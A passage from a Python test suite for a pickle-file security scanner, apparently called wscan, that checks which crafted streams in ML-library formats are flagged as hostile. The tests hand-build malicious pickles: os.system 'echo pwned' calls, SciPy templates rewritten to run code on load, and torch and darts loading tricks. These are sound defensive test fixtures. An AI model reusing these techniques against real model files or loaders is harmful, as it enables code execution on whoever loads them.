            _g("builtins", "dict") + b"(]" + _tuple(_s("restore_model_spec"), b"\x88") + b"atR") + b"R.",
        # review 64: its base class through a walk, which protocol 4 resolves (ModelData.__setstate__ runs)
        b"\x80\x04" + _g("statsmodels.base.data", "PandasData.__base__") + b")\x81" + _ASKS + b"b.",
    ],
    ids=["alias", "helper", "rebuild-from-type", "base-walk"],
)
def test_statsmodels_data_reached_otherwise_stays_critical(tmp_path: Path, route: bytes) -> None:
    """Review 63: a class reached through another module, made by a helper, or given its state by a call, is cleared
    by nothing: WS-PKL-051 (each ran a formula's code under pickle.load with statsmodels 0.15)."""
    found = scan_bytes(tmp_path, route, "results.pickle").findings
    assert "WS-PKL-051" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}


def test_statsmodels_states_past_what_wscan_keeps_stay_critical(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Review 63: a state past MAX_STATES is not read, so it may ask for the formula (999,999 states hid one)."""
    from wscan.scanners import pickle_states

    monkeypatch.setattr(pickle_states, "MAX_STATES", 2)
    plain = _dict((_s("nobs"), b"K\x01"))
    padding = (_g("argparse", "Namespace") + b")\x81" + plain + b"b") * 2
    blob = b"\x80\x02(" + padding + _g("statsmodels.base.data", "PandasData") + b")\x81" + plain + b"bl."
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert "WS-PKL-051" in {f.rule_id for f in found if f.severity >= Severity.CRITICAL}
    monkeypatch.setattr(pickle_states, "MAX_STATES", 1000)
    found = scan_bytes(tmp_path, blob, "results.pickle").findings
    assert "WS-PKL-051" not in {f.rule_id for f in found}


def test_a_state_dict_changed_after_its_build_is_high(tmp_path: Path) -> None:
    """BUILD hands the loader the state as it is then; items set on that dict afterwards (fetched from the memo) are
    not what the object got, only what a check reading the stream's end sees (helper 233 grew a pandas array's
    checked state so). Writers fill a state before its BUILD. A dict in a state that refers back to a dict still
    being written (an object inside a dict whose attribute is that dict) is filled after the BUILD by real pickle,
    and passes."""
    import argparse

    namespace = argparse.Namespace(size=1)
    blob = pickle.dumps(namespace, protocol=3)
    changed = blob[:-1] + b"h\x02" + b"X\x04\x00\x00\x00sizeK\x05" + b"s0."  # memo 2: the state dict
    loaded = pickle.loads(changed)
    assert loaded.size == 1  # the object got the dict as it was at the BUILD
    assert "WS-PKL-018" in _rules(tmp_path / "changed", changed)

    registry: dict[str, object] = {}
    registry["child"] = argparse.Namespace(registry=registry, size=2)
    registry["other"] = 3
    real = pickle.dumps(registry, protocol=4)
    assert pickle.loads(real)["child"].registry["other"] == 3
    assert _rules(tmp_path / "real", real) == set()


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


_NORM = _global("scipy.stats._continuous_distns", "norm_gen")
_DEEPCOPY = _global("copy", "deepcopy")
# Four ways helper 259 had an allowed function hand back a SciPy distribution (its argument, a copy, a new instance)
# that a BUILD then gave a state wscan cannot read: the object's class was taken from the function's name.
_HANDED_BACK = {
    "identity": _global("gensim.utils", "identity") + _NORM + pickle.EMPTY_TUPLE + pickle.NEWOBJ + pickle.TUPLE1
    + pickle.REDUCE,
    "deepcopy": _DEEPCOPY + b"<norm>" + pickle.TUPLE1 + pickle.REDUCE,  # of a distribution as SciPy pickles it
    "newObj": _global("sklearn.metrics._dist_metrics", "newObj") + _NORM + pickle.TUPLE1 + pickle.REDUCE,
    "identity of identity": _global("gensim.utils", "identity") + _global("gensim.utils", "identity") + _NORM
    + pickle.EMPTY_TUPLE + pickle.NEWOBJ + pickle.TUPLE1 + pickle.REDUCE + pickle.TUPLE1 + pickle.REDUCE,
}


def _runs_the_template(tmp_path: Path, body: bytes, marker: Path) -> bytes:
    """The protocol-2 pickle of `body`, after pickle.load in a child has shown it runs the template (the marker)."""
    blob = pickle.PROTO + b"\x02" + body + pickle.STOP
    sample = tmp_path / "dist.pkl"
    sample.write_bytes(blob)
    _load_in_child(sample, tmp_path)
    assert marker.exists(), "the loader no longer runs the template: revisit the test"
    return blob


@pytest.mark.parametrize("state_kind", ["computed state", "computed name"])
@pytest.mark.parametrize("maker", sorted(_HANDED_BACK))
def test_scipy_template_on_a_distribution_an_allowed_function_hands_back(
    tmp_path: Path, maker: str, state_kind: str
) -> None:
    """The state is copy.deepcopy of a dict holding the template (or a dict whose key is deepcopy of its name):
    the real loader runs the code, and the object is judged as each class its maker was handed."""
    pytest.importorskip("gensim")
    marker = tmp_path / "ran"
    code = _text("_parse_arg_template"), _text(f"open({str(marker)!r}, 'w').close()\n")
    if state_kind == "computed state":
        state = _DEEPCOPY + pickle.EMPTY_DICT + code[0] + code[1] + pickle.SETITEM + pickle.TUPLE1 + pickle.REDUCE
    else:
        state = pickle.EMPTY_DICT + _DEEPCOPY + code[0] + pickle.TUPLE1 + pickle.REDUCE + code[1] + pickle.SETITEM
    from scipy import stats

    made = _HANDED_BACK[maker].replace(b"<norm>", pickle.dumps(stats.norm, protocol=2)[2:-1])
    blob = _runs_the_template(tmp_path, made + state + pickle.BUILD, marker)
    found = _critical(tmp_path / "scan", blob, "dist.pkl")
    assert any(f.startswith("WS-PKL-032") and "norm_gen" in f for f in found), found


def test_arrays_restored_with_computed_states_stay_clean(tmp_path: Path) -> None:
    """The objects real files BUILD from a computed state (NumPy's reconstructed arrays, pandas' datetime arrays)
    are made from classes that run no template: judging what their makers were handed adds no finding."""
    import numpy as np
    import pandas as pd

    frame = pd.DataFrame({"t": pd.date_range("2020", periods=3, tz="UTC"), "x": np.arange(3.0)})
    values = [frame, np.ma.masked_array([1.0, 2.0], mask=[False, True]), np.random.default_rng(0)]
    for protocol in (2, 4, 5):
        report = scan_bytes(tmp_path / str(protocol), pickle.dumps(values, protocol=protocol), "values.pkl")
        assert [f.rule_id for f in report.findings] == []


@pytest.mark.parametrize("wrapped", [6, 40])
def test_a_distribution_handed_back_past_what_wscan_follows_fails_the_scan(tmp_path: Path, wrapped: int) -> None:
    """gensim.utils.identity wrapped around the distribution more times than handed_classes follows (4 calls): the
    loader still runs the template, and the unreadable state is high since its object's class is unknown."""
    pytest.importorskip("gensim")
    from scipy import stats

    marker = tmp_path / "ran"
    made = pickle.dumps(stats.norm, protocol=2)[2:-1]
    for _ in range(wrapped):
        made = _global("gensim.utils", "identity") + made + pickle.TUPLE1 + pickle.REDUCE
    code = _text("_parse_arg_template") + _text(f"open({str(marker)!r}, 'w').close()\n")
    state = _DEEPCOPY + pickle.EMPTY_DICT + code + pickle.SETITEM + pickle.TUPLE1 + pickle.REDUCE
    blob = _runs_the_template(tmp_path, made + state + pickle.BUILD, marker)
    report = scan_bytes(tmp_path / "scan", blob, "dist.pkl")
    assert any(f.rule_id == "WS-PKL-025" and "more than wscan follows" in f.message for f in report.findings), [
        (f.rule_id, f.message) for f in report.findings]


# Classes added to the packs on 2026-12-07 (helper 258's sweep): one called, one restored with a method replaced
ADDED_CLASSES = {
    "science": (("nltk.tag.tnt", "TnT"), ("hmmlearn.hmm", "PoissonHMM"), "predict"),
    "feature-engine": (("feature_engine.imputation.mean_median", "MeanMedianImputer"),
                       ("feature_engine.encoding.woe", "WoEEncoder"), "transform"),
    "interpret": (("interpret.glassbox._linear", "LinearRegression"),
                  ("interpret.glassbox._ebm._ebm", "ExplainableBoostingClassifier"), "predict_proba"),
}


@pytest.mark.parametrize("pack", sorted(ADDED_CLASSES))
def test_classes_added_to_the_packs_are_restored_from_state_only(tmp_path: Path, pack: str) -> None:
    """The classes helper 258's sweep added are allowed as a pickle restores them: called with arguments, or given
    a method's name in their state, they are flagged as any class is."""
    (module, name), (restored_module, restored), method = ADDED_CLASSES[pack]
    called = _g(module, name) + _tuple(_g("builtins", "print")) + b"R"
    found = scan_bytes(tmp_path / "a", b"\x80\x02" + called + b".", "called.pkl").findings
    assert [f for f in found if f.severity >= Severity.HIGH], [(f.rule_id, f.message) for f in found]
    made = _g("copyreg", "_reconstructor") + _tuple(_g(restored_module, restored), _g("builtins", "object"), b"N")
    state = _dict((b"X" + len(method).to_bytes(4, "little") + method.encode(), _g("builtins", "print")))
    found = scan_bytes(tmp_path / "b", b"\x80\x02" + made + b"R" + state + b"b.", "restored.pkl").findings
    assert "WS-PKL-026" in {f.rule_id for f in found}, [(f.rule_id, f.message) for f in found]


FEATURE_ENGINE = sorted((Path(__file__).parent / "data" / "feature_engine").glob("*.*[lb]"))


@pytest.mark.parametrize("path", FEATURE_ENGINE, ids=lambda path: path.name)
def test_real_feature_engine_transformers_pass(path: Path) -> None:
    """Helper 258: every feature-engine transformer, and category_encoders' GLMMEncoder, was high (no pack held
    them). The files are the libraries' own (tests/data/feature_engine/README.md)."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_a_feature_engine_pipeline_with_a_cache_folder_is_high() -> None:
    """Helper 261: feature-engine's Pipeline, scikit-learn's subclass, keeps `memory` too; a refit writes there."""
    found = scan(Path(__file__).parent / "data" / "feature_engine" / "hostile" / "pipeline_memory.pkl").findings
    assert "WS-PKL-033" in {f.rule_id for f in found}, [(f.rule_id, f.message) for f in found]


INTERPRET = sorted((Path(__file__).parent / "data" / "interpret").glob("interpret_*"))


@pytest.mark.parametrize("path", INTERPRET, ids=lambda path: path.name)
def test_real_interpret_models_pass(path: Path) -> None:
    """Helper 258: every InterpretML model was high (no pack held them); rules/allow-interpret.yaml records what
    these files, interpret's own (tests/data/interpret/README.md), import."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_interpret_is_allowed_by_the_names_its_models_import_only() -> None:
    """Only the glassbox classes real files import: not the package, whose providers start servers."""
    from wscan.rules import builtin_rules_dir
    from wscan.rules.loader import load_pack

    allowed = load_pack(builtin_rules_dir() / "allow-interpret.yaml")["lists"]["allowed-callables"]
    assert "interpret.glassbox._ebm._ebm.ExplainableBoostingClassifier" in allowed
    assert all(name.startswith("interpret.glassbox.") for name in allowed), allowed


def _legacy_torch_file(main: bytes) -> bytes:
    """A legacy (non-zip) torch.save file around one pickle: the magic number, protocol and system info first,
    an empty storage-key list after, as torch.load's legacy reader takes them."""
    head = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2))  # fmt: skip
    return head + main + pickle.dumps([], protocol=2)


_MODULE_KINDS = {  # how the id's kind is written: torch decodes bytes first (helper 262)
    "text": _text("module"), "bytes": pickle.SHORT_BINBYTES + b"\x06module",
    "computed": _global("_codecs", "encode") + _text("module") + _text("latin1") + pickle.TUPLE2 + pickle.REDUCE,
}


@pytest.mark.parametrize(("via", "kind"), [("the id itself", "text"), ("identity of the id", "text"),
                                           ("the id itself", "bytes"), ("the id itself", "computed")])
def test_an_object_a_legacy_torch_module_id_stands_for_is_judged(tmp_path: Path, via: str, kind: str) -> None:
    """Helper 260: torch.load's legacy reader returns the second item of a ('module', X, '', '') persistent id,
    whatever X is; with X a SciPy distribution, a BUILD on the id (or on gensim.utils.identity of it) gave it a
    template SciPy execs, and wscan, which took only a named class for X, judged nothing. Helper 262 wrote the
    kind as bytes, which torch decodes."""
    pytest.importorskip("gensim")
    from scipy import stats

    marker = tmp_path / "ran"
    template = f"open({str(marker)!r}, 'w').close()\n" + stats.norm._parse_arg_template
    dist = _global("scipy.stats._continuous_distns", "norm_gen") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    made = pickle.MARK + _MODULE_KINDS[kind] + dist + _text("") + _text("") + pickle.TUPLE + pickle.BINPERSID
    full = pickle.dumps(dict(stats.norm.__getstate__()), protocol=2)[2:-1]
    state = full + _text("_parse_arg_template") + _text(template) + pickle.SETITEM
    if via == "identity of the id":
        made = _global("gensim.utils", "identity") + made + pickle.TUPLE1 + pickle.REDUCE
        state = _DEEPCOPY + state + pickle.TUPLE1 + pickle.REDUCE
    sample = tmp_path / "model.pt"
    sample.write_bytes(_legacy_torch_file(pickle.PROTO + b"\x02" + made + state + pickle.BUILD + pickle.STOP))
    load = f"import torch\ntorch.load({str(sample)!r}, weights_only=False)\n"
    subprocess.run([sys.executable, "-c", load], cwd=tmp_path, capture_output=True, timeout=120, check=False)
    assert marker.exists(), "torch.load no longer returns what a module id names: revisit the test"
    found = {f.rule_id for f in scan(sample).findings if f.severity >= Severity.CRITICAL}
    assert "WS-PKL-032" in found, found


@pytest.mark.parametrize(("module", "name", "flagged"), [
    ("sklearn.linear_model._ridge", "Ridge", False), ("sklearn.linear_model._base", "LinearRegression", False),
    ("sklearn.pipeline", "Pipeline", True), ("sklearn.cluster._agglomerative", "AgglomerativeClustering", True),
])
def test_interpret_linear_models_build_a_linear_class(tmp_path: Path, module: str, name: str, flagged: bool) -> None:
    """Helper 263: interpret's linear models call `linear_class(**kwargs)` at fit(), both from the state; a Pipeline
    there with a `memory` folder made a refit write a cache (tests/data/interpret/hostile). interpret documents a
    scikit-learn linear class there (WS-PKL-065)."""
    made = _g("copyreg", "_reconstructor") + _tuple(_g("interpret.glassbox._linear", "LinearRegression"),
                                                    _g("builtins", "object"), b"N") + b"R"
    state = _dict((_s("linear_class"), _g(module, name)), (_s("kwargs"), b"}"))
    found = {f.rule_id for f in scan_bytes(tmp_path, b"\x80\x02" + made + state + b"b.", "linear.pkl").findings}
    assert ("WS-PKL-065" in found) == flagged, found
    if not flagged:
        assert not found, found


@pytest.mark.parametrize(("module", "name", "flagged"), [
    ("nltk.probability", "MLEProbDist", False), ("nltk.probability", "LidstoneProbDist", False),
    ("builtins", "max", True), ("joblib.memory", "Memory", True),
])
def test_a_conditional_prob_dist_makes_a_probability_distribution(
    tmp_path: Path, module: str, name: str, flagged: bool
) -> None:
    """Helper 264: NLTK's ConditionalProbDist calls `_probdist_factory(FreqDist, *_factory_args, **_factory_kw_args)`
    for an unseen condition; `max` with `key=joblib.Memory` made the file's folder at a lookup
    (tests/data/science/hostile/cpd_memory.pkl). NLTK documents a probability distribution class (WS-PKL-065)."""
    made = _g("nltk.probability", "ConditionalProbDist") + b")\x81"
    state = _dict((_s("_probdist_factory"), _g(module, name)), (_s("_factory_args"), b")"),
                  (_s("_factory_kw_args"), b"}"))
    found = {f.rule_id for f in scan_bytes(tmp_path, b"\x80\x02" + made + state + b"b.", "cpd.pkl").findings}
    assert ("WS-PKL-065" in found) == flagged, found


def test_helper_264s_conditional_prob_dist_is_high() -> None:
    found = scan(Path(__file__).parent / "data" / "science" / "hostile" / "cpd_memory.pkl").findings
    assert "WS-PKL-065" in {f.rule_id for f in found if f.severity >= Severity.HIGH}


def test_an_interpret_model_that_builds_a_cached_pipeline_is_high() -> None:
    found = scan(Path(__file__).parent / "data" / "interpret" / "hostile" / "linear_class_pipeline.pkl").findings
    assert "WS-PKL-065" in {f.rule_id for f in found if f.severity >= Severity.HIGH}


DARTS = Path(__file__).parent / "data" / "darts"


@pytest.mark.parametrize("path", sorted(DARTS.glob("darts_*")), ids=lambda path: path.name)
def test_real_darts_models_and_time_series_pass(path: Path) -> None:
    """Helper 266: 16 of 21 darts files were high (no pack held darts' classes). The files are darts' own
    (model.save of local, regression and torch models with their Lightning checkpoints, TimeSeries.to_pickle, a
    transformer pipeline: tests/data/darts/README.md); rules/allow-darts.yaml records what they import, each hook
    reviewed in tools/gen_darts_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_darts_is_allowed_by_the_names_its_files_import_only() -> None:
    """Only the classes real files import (never a module wildcard, never getattr), restored from state only but
    the enums."""
    from wscan.rules import builtin_rules_dir
    from wscan.rules.loader import load_pack

    lists = load_pack(builtin_rules_dir() / "allow-darts.yaml")["lists"]
    allowed = lists["allowed-callables"]
    assert "darts.timeseries.TimeSeries" in lists["state-only-classes"]
    assert all(name.startswith(("darts.", "nfoursid.")) and name.count(".") >= 2 for name in allowed), allowed
    assert "builtins.getattr" not in allowed
    enums = {"darts.utils.utils.ModelMode", "darts.utils.utils.SeasonalityMode",
             "darts.utils.likelihood_models.base.LikelihoodType"}
    assert set(allowed) - set(lists["state-only-classes"]) == enums


@pytest.mark.parametrize(("name", "rule"), [("load_ckpt_path_data_url.pt", "WS-PKL-067"),
                                            ("trainer_default_root_dir.pt", "WS-PKL-039"),
                                            ("model_params_force_reset.pt", "WS-PKL-039")])
def test_helper_269s_darts_models_are_high(name: str, rule: str) -> None:
    """Real darts models with one attribute set (tests/data/darts/README.md): fit() ran a pickle from a `data:` URL,
    predict() wrote logs to a folder the file named, backtest() deleted and rewrote one."""
    found = scan(DARTS / "hostile" / name).findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, [f.message for f in found]


def test_a_checkpoint_path_is_judged_on_darts_models_only(tmp_path: Path) -> None:
    """WS-PKL-067 is darts' resume path: the same attribute name on another library's object is not it."""
    made = _g("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    blob = b"\x80\x02" + made + _dict((_s("load_ckpt_path"), _s("/tmp/elsewhere/evil.ckpt"))) + b"b."
    assert "WS-PKL-067" not in {f.rule_id for f in scan_bytes(tmp_path, blob, "model.pkl").findings}


def test_a_darts_model_saved_with_checkpoints_stays_critical() -> None:
    """save_checkpoints=True keeps Lightning's ModelCheckpoint among the trainer's arguments, holding the network's
    `log` bound method (getattr on the network), which no pack allows."""
    found = scan(DARTS / "flagged" / "dlinear_save_checkpoints.pt").findings
    critical = {f.message.split(" (")[0] for f in found if f.severity >= Severity.CRITICAL}
    assert "Loading imports builtins.getattr" in critical, [f.message for f in found]


_FFT = _g("darts.models.forecasting.fft", "FFT") + b")\x81"  # cls.__new__(cls), as copyreg's NEWOBJ


@pytest.mark.parametrize(("label", "body", "rule"), [
    # a model whose state runs a command
    ("os.system in a state", _g("darts.models.forecasting.baselines", "NaiveSeasonal") + b")\x81"
     + _dict((_s("K"), _g("os", "system") + _tuple(_s("echo pwned")) + b"R")) + b"b", "WS-PKL-001"),
    # darts' classes are restored from state: a call runs the constructor (a torch model's makes its work folders)
    ("TimeSeries called", _g("darts.timeseries", "TimeSeries") + _tuple(_s("times"), _s("values")) + b"R",
     "WS-PKL-014"),
    ("RNNModel called", _g("darts.models.forecasting.rnn_model", "RNNModel") + _tuple(b"K\x0c") + b"R", "WS-PKL-014"),
    # FFT's trend function, called while the file loads, and looked up on the class (the file picks its `self`)
    ("bound method called", _FFT + b"p0\n0" + _g("builtins", "getattr") + b"(g0\n" + _s("_null_trend") + b"tR"
     + _tuple(b"K\x01") + b"R", "WS-PKL-017"),
    ("method of the class", _FFT + _dict((_s("trend_function"), _g("builtins", "getattr") + b"("
                                          + _g("darts.models.forecasting.fft", "FFT") + _s("_null_trend") + b"tR"))
     + b"b", "WS-PKL-017"),
    # a state that replaces a model's method with an allowed class
    ("method replaced", _FFT + _dict((_s("predict"), _g("darts.timeseries", "TimeSeries"))) + b"b", "WS-PKL-026"),
    # fit() resumes from load_ckpt_path (torch.load, weights_only=False, any fsspec URL); the arguments a rebuilt
    # model and Lightning's Trainer take: checkpoints, a folder reset, logs (helper 269)
    ("checkpoint to resume", _g("darts.models.forecasting.nbeats", "NBEATSModel") + b")\x81"
     + _dict((_s("load_ckpt_path"), _s("/tmp/elsewhere/evil.ckpt"))) + b"b", "WS-PKL-067"),
    ("trainer writes logs", _g("darts.models.forecasting.nbeats", "NBEATSModel") + b")\x81"
     + _dict((_s("trainer_params"), _dict((_s("default_root_dir"), _s("/tmp/x")), (_s("logger"), b"\x88")))) + b"b",
     "WS-PKL-039"),
    ("rebuilt model resets a folder", _g("darts.models.forecasting.nbeats", "NBEATSModel") + b")\x81"
     + _dict((_s("_model_params"), _g("collections", "OrderedDict") + b")R" + b"(" + _s("force_reset") + b"\x88u"))
     + b"b", "WS-PKL-039"),
    ("trainer arguments within the model's", _g("darts.models.forecasting.nbeats", "NBEATSModel") + b")\x81"
     + _dict((_s("_model_params"), _dict((_s("pl_trainer_kwargs"), _dict((_s("default_root_dir"), _s("/tmp/x")))))))
     + b"b", "WS-PKL-039"),
    # load() calls load_from_checkpoint on the class these two name, taken from any imported module (helper 268)
    ("network class from elsewhere", _g("darts.models.forecasting.rnn_model", "RNNModel") + b")\x81"
     + _dict((_s("_module_path"), _s("pytorch_lightning")), (_s("_module_name"), _s("LightningModule"))) + b"b",
     "WS-PKL-038"),
])
def test_hostile_darts_streams_stay_flagged(tmp_path: Path, label: str, body: bytes, rule: str) -> None:
    """The darts pack allows its classes restored from state, and FFT's trend functions bound to the model the
    stream restored and never called: not a call of a class, a command in a state, a method called or looked up on
    the class, nor a method a state replaces."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "darts.pkl").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, (label, [f.message for f in found])


PYTORCH_FORECASTING = Path(__file__).parent / "data" / "pytorch_forecasting"


@pytest.mark.parametrize("path", sorted(PYTORCH_FORECASTING.glob("ptf_*")), ids=lambda path: path.name)
def test_real_pytorch_forecasting_datasets_and_checkpoints_pass(path: Path) -> None:
    """Helper 270: pytorch-forecasting's ordinary saves were high (no pack held its classes). The files are its own
    (TimeSeriesDataSet.save with several target normalizers and encoders, Lightning checkpoints of its models with
    their losses, metrics and normalizers: tests/data/pytorch_forecasting/README.md);
    rules/allow-pytorch-forecasting.yaml records what they import, each hook reviewed in
    tools/gen_pytorch_forecasting_allowlist.py."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_pytorch_forecasting_is_allowed_by_the_names_its_files_import_only() -> None:
    """Only the classes real files import (never a module wildcard, never getattr), each restored from state only."""
    from wscan.rules import builtin_rules_dir
    from wscan.rules.loader import load_pack

    lists = load_pack(builtin_rules_dir() / "allow-pytorch-forecasting.yaml")["lists"]
    allowed = lists["allowed-callables"]
    assert "pytorch_forecasting.data.timeseries._timeseries.TimeSeriesDataSet" in lists["state-only-classes"]
    assert all(name.startswith("pytorch_forecasting.") and name.count(".") >= 2 for name in allowed), allowed
    assert "builtins.getattr" not in allowed
    assert set(allowed) == set(lists["state-only-classes"])


_PTF_ENCODERS = "pytorch_forecasting.data.encoders"
_GROUP_NORMALIZER = _g(_PTF_ENCODERS, "GroupNormalizer") + b")\x81"  # cls.__new__(cls), as copyreg's NEWOBJ


@pytest.mark.parametrize("value", [_s("log1p"), _s("softplus"), b"N"])
def test_a_normalizer_transformation_named_passes(tmp_path: Path, value: bytes) -> None:
    blob = b"\x80\x02" + _GROUP_NORMALIZER + _dict((_s("transformation"), value)) + b"b."
    assert "WS-PKL-068" not in {f.rule_id for f in scan_bytes(tmp_path, blob, "ptf.pkl").findings}


@pytest.mark.parametrize(("label", "body", "rule"), [
    # a dataset whose state runs a command
    ("os.system in a state", _g("pytorch_forecasting.data.timeseries._timeseries", "TimeSeriesDataSet") + b")\x81"
     + _dict((_s("target"), _g("os", "system") + _tuple(_s("echo pwned")) + b"R")) + b"b", "WS-PKL-001"),
    # a normalizer's transformation given as a dict of functions: get_transform hands it back and calls `forward`
    ("command as a transformation", _GROUP_NORMALIZER
     + _dict((_s("transformation"), _dict((_s("forward"), _g("os", "system"))))) + b"b", "WS-PKL-001"),
    # ... and an allowed function there, which the library calls on the data (helper 271): saves keep a name
    ("allowed function as a transformation", _GROUP_NORMALIZER
     + _dict((_s("transformation"), _dict((_s("forward"), _g("torchmetrics.utilities.data", "dim_zero_sum")))))
     + b"b", "WS-PKL-068"),
    # pytorch-forecasting's classes are restored from state: a call runs the constructor
    ("TimeSeriesDataSet called", _g("pytorch_forecasting.data.timeseries._timeseries", "TimeSeriesDataSet")
     + _tuple(_s("data"), _s("time_idx")) + b"R", "WS-PKL-014"),
    ("GroupNormalizer called", _g(_PTF_ENCODERS, "GroupNormalizer") + _tuple(_s("standard")) + b"R", "WS-PKL-014"),
    ("QuantileLoss called", _g("pytorch_forecasting.metrics.quantile", "QuantileLoss") + b")R", "WS-PKL-014"),
    # a normalizer's method looked up on the class (the file picks its `self`), and one a state replaces
    ("method of the class", _g("builtins", "getattr") + b"(" + _g(_PTF_ENCODERS, "GroupNormalizer")
     + _s("fit") + b"tR", "WS-PKL-017"),
    ("method replaced", _GROUP_NORMALIZER
     + _dict((_s("transform"), _g("pytorch_forecasting.metrics.point", "MAE") + b")\x81")) + b"b", "WS-PKL-026"),
    # MultiNormalizer hands a name it lacks from its normalizers: APPENDS after BUILD reaches them
    ("appended after BUILD", _g(_PTF_ENCODERS, "MultiNormalizer") + b")\x81"
     + _dict((_s("normalizers"), b"]")) + b"b(" + _s("x") + b"e", "WS-PKL-018"),
    # a ModuleList of logging metrics calls each module it keeps: a dataset is none
    ("dataset among the metrics", _g("torch.nn.modules.container", "ModuleList") + b")\x81"
     + _dict((_s("_modules"), _g("collections", "OrderedDict") + b")R(" + _s("0")
              + _g("pytorch_forecasting.data.timeseries._timeseries", "TimeSeriesDataSet") + b")\x81u"))
     + b"b", "WS-PKL-029"),
])
def test_hostile_pytorch_forecasting_streams_stay_flagged(tmp_path: Path, label: str, body: bytes, rule: str) -> None:
    """The pytorch-forecasting pack allows its classes restored from state: not a call of a class, a command in a
    state or in a normalizer's transformation, a method looked up on the class or replaced by a state, APPENDS on a
    restored MultiNormalizer, nor a dataset where a ModuleList keeps modules."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "ptf.pkl").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, (label, [f.message for f in found])


GEOMETRIC = Path(__file__).parent / "data" / "torch_geometric"
PYRO = Path(__file__).parent / "data" / "pyro"
TPOT = Path(__file__).parent / "data" / "tpot"


@pytest.mark.parametrize("path", sorted(GEOMETRIC.glob("pyg_*")) + sorted(PYRO.glob("pyro_*"))
                         + sorted(TPOT.glob("tpot_*")), ids=lambda path: path.name)  # fmt: skip
def test_real_torch_geometric_pyro_and_tpot_files_pass(path: Path) -> None:
    """Helper 270: PyG's saved graphs and processed datasets (InMemoryDataset.save keeps the graph's class as a
    value), Pyro's parameter stores (softplus_positive) and TPOT's fitted pipelines (Passthrough, SkipTransformer)
    were high. The files are the libraries' own (tests/data/{torch_geometric,pyro,tpot}/README.md); the packs
    rules/allow-torch-geometric.yaml, allow-pyro.yaml and allow-tpot.yaml record what they import."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_torch_geometric_pyro_and_tpot_are_allowed_by_the_names_their_files_import_only() -> None:
    """Only the classes real files import, restored from state only; no model, loader or estimator transformer."""
    from wscan.rules import builtin_rules_dir
    from wscan.rules.loader import load_pack

    for pack, prefix in (("allow-torch-geometric", "torch_geometric.data."), ("allow-pyro", "pyro.distributions."),
                         ("allow-tpot", "tpot.builtin_modules.")):  # fmt: skip
        lists = load_pack(builtin_rules_dir() / f"{pack}.yaml")["lists"]
        assert all(name.startswith(prefix) for name in lists["allowed-callables"]), pack
        assert lists["allowed-callables"] == lists["state-only-classes"], pack
    geometric = load_pack(builtin_rules_dir() / "allow-torch-geometric.yaml")["lists"]
    assert "torch_geometric.data.storage.GlobalStorage" in geometric["allowed-callables"]
    assert {"to", "apply", "__deepcopy__", "discard"} <= set(geometric["method-names"])
    tpot = load_pack(builtin_rules_dir() / "allow-tpot.yaml")["lists"]["allowed-callables"]
    assert "tpot.builtin_modules.estimatortransformer.EstimatorTransformer" not in tpot


def _pyg(name: str) -> bytes:
    module = {"Data": "data", "HeteroData": "hetero_data", "TemporalData": "temporal"}.get(name, "storage")
    return _g(f"torch_geometric.data.{module}", name) + b")\x81"  # cls.__new__(cls), as torch.save writes


def _storage(*items: tuple[bytes, bytes]) -> bytes:
    return _pyg("GlobalStorage") + _dict((_s("_mapping"), _dict(*items))) + b"b"


_TENSOR = _g("torch._utils", "_rebuild_tensor_v2")  # enough for the rules: an object made by torch's rebuild
_CLASS = _g("collections", "OrderedDict")  # an allowed class, callable: not inert
_EASY_DISCARD = _g("easydict", "EasyDict") + b")\x81" + b"(" + _s("discard") + _CLASS + b"u"  # an item as attribute


@pytest.mark.parametrize(("label", "body", "rule"), [
    ("Data called", _g("torch_geometric.data.data", "Data") + _tuple(_s("x")) + b"R", "WS-PKL-014"),
    ("storage called", _g("torch_geometric.data.storage", "GlobalStorage") + _tuple(_dict()) + b"R", "WS-PKL-014"),
    ("os.system in a state", _pyg("Data") + _dict((_s("_store"), _g("os", "system") + _tuple(_s("echo pwned"))
                                                  + b"R")) + b"b", "WS-PKL-001"),
    # the graph's own dict: a method's name there hides the method (data.to(device))
    ("to in a graph's state", _pyg("Data") + _dict((_s("to"), _CLASS)) + b"b", "WS-PKL-026"),
    # a storage's items are its attributes (BaseStorage.__getattr__): every one is judged, dunders included
    ("__deepcopy__ item", _storage((_s("__deepcopy__"), _CLASS)), "WS-PKL-026"),
    ("to item", _storage((_s("x"), _TENSOR), (_s("to"), _CLASS)), "WS-PKL-026"),
    ("apply item", _pyg("NodeStorage") + _dict((_s("_mapping"), _dict((_s("apply"), _CLASS)))) + b"b", "WS-PKL-026"),
    ("__array__ item", _storage((_s("__array__"), _CLASS)), "WS-PKL-026"),
    # SETITEMS on a graph or a storage fills its `_mapping` (Data.__setitem__, BaseStorage.__setitem__)
    ("apply set as an item", _pyg("Data") + b"(" + _s("apply") + _CLASS + b"u", "WS-PKL-026"),
    ("to set on a storage", _pyg("EdgeStorage") + b"(" + _s("to") + _CLASS + b"u", "WS-PKL-026"),
    # a `_mapping` that is no dict hides which names it answers
    ("items from a call", _pyg("GlobalStorage") + _dict((_s("_mapping"), _CLASS + _tuple(_s("ab")) + b"R")) + b"b",
     "WS-PKL-025"),
    # the feature-store classes a Data calls: real files keep the class by name
